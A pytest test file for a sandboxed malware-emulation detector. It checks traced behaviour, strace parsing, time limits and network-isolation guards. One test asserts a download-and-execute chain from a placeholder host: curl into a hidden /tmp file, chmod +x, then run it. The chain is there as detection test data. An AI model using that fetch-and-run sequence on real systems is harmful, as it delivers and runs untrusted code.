"""Scripts of our own in the cage: what they do is seen, the honest one is left alone, and everything has an end."""

from __future__ import annotations

import pytest

import emulation_vectors as vectors
from kazami.detect.content.emulation import behavior, linux, script, strace
from kazami.detect.content.emulation.record import Record
from kazami.engine.jail import proof
from kazami.model.content import Limits, Scope
from kazami.pipeline.inspect import Submission, Wish, inspect


@pytest.fixture
def cage() -> None:
    if why := proof.reason():
        pytest.skip(f"no cage: {why}")


def run(name: str, seconds: float = 60.0) -> Record:
    data = vectors.SCRIPTS[name][0].encode()
    word = linux.language(data, name)
    if not linux.interpreter(word, data):
        pytest.skip(f"nothing here runs {word}")
    return linux.run(data, name, seconds)


@pytest.mark.parametrize("name", vectors.SCRIPTS)
def test_what_it_does_is_seen_and_it_ends(cage: None, name: str) -> None:
    _, wanted, reason = vectors.SCRIPTS[name]
    record = run(name, 1.0 if reason == "out of time" else 60.0)
    seen = {feature.name for feature in behavior.features(record)}
    assert seen >= wanted
    assert bool(seen) == bool(wanted)
    assert (reason in record.ended) if reason else not record.ended


def test_sleeps_take_no_time(cage: None) -> None:
    assert 3590 < run("profile.py").slept < 3610


def test_processes_have_their_parents_and_decoys_their_real_names(cage: None) -> None:
    record = run("fetch.sh")
    started = [act for act in record.acts if act.category == "process_creation"]
    assert [act["CommandLine"] for act in started] == [
        "curl -s http://files.example.com/a -o /tmp/.a",
        "chmod +x /tmp/.a",
        "/tmp/.a",
    ]
    assert {act["ParentImage"] for act in started} == {"/usr/bin/sh"}
    assert started[0]["Image"] == "/usr/bin/curl"
    assert record.dropped == [("/tmp/.a", b"#!/bin/sh\nexit 0\n")]
    assert run("fetch.sh").log() == record.log()


def test_inspected_in_a_worker_and_incomplete_where_it_gave_up(cage: None) -> None:
    wish = Wish(Limits(emulation_seconds=40.0), emulate=True)
    given = [
        Submission(name, data=vectors.SCRIPTS[name][0].encode()) for name in ("call_home.py", "fetch.sh")
    ]
    first, second = sorted(inspect(given, wish), key=lambda one: one.name)
    assert first.verdict.word == "incomplete"
    assert "found no network" in first.verdict.gaps[0].reason
    assert second.verdict.word in ("suspicious", "malicious")
    assert [one.place for one in second.looked if one.relation == "dropped"] == ["fetch.sh!/tmp/.a"]
    logs = [one for one in second.looked if one.name == "emulation.jsonl"]
    assert len(logs) == 2  # what was dropped is run too


def test_nothing_is_run_where_the_cage_does_not_hold(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(proof, "reason", lambda: "it shares our network")
    analysis = script.analyze(b"#!/bin/sh\nid\n", Scope(name="a.sh", kind="shell"))
    assert not analysis.children
    (gap,) = analysis.gaps
    assert gap.kind == "ended"
    assert gap.reason == "not run, because the cage does not hold: it shares our network"
    assert script.state() == "the cage does not hold, so that nothing is run in it: it shares our network"


def test_what_strace_writes() -> None:
    log = (
        b'7     execve("/bin/a b", ["a\\"b", "\\303\\251\\n"], 0x7f /* 3 vars */) = 0\n'
        b'8     openat(AT_FDCWD</home/user>, "x", O_RDONLY <unfinished ...>\n'
        b'7     connect(3<TCP:[1]>, {sa_family=AF_INET, sin_port=htons(80), sin_addr=inet_addr("192.0.2.1")}, 16) = -1 ENETUNREACH (Network is unreachable)\n'
        b"8     <... openat resumed>) = 3</home/user/x>\n"
        b"nonsense\n"
        b"7     +++ exited with 3 +++\n"
        b"8     +++ killed by SIGKILL +++\n"
    )
    first, begun, second, third, *ends = strace.read(log)
    assert isinstance(first, strace.Call)
    assert first.texts == ["/bin/a b", 'a"b', "é\n"]
    assert begun == strace.Begun(8, "openat")
    assert isinstance(second, strace.Call)
    assert second.address == ("192.0.2.1", "80")
    assert second.result == -1
    assert isinstance(third, strace.Call)
    assert (third.pid, third.texts, third.note) == (8, ["x"], "</home/user/x>")
    assert ends == [strace.Exit(7, 3), strace.Exit(8, -1)]
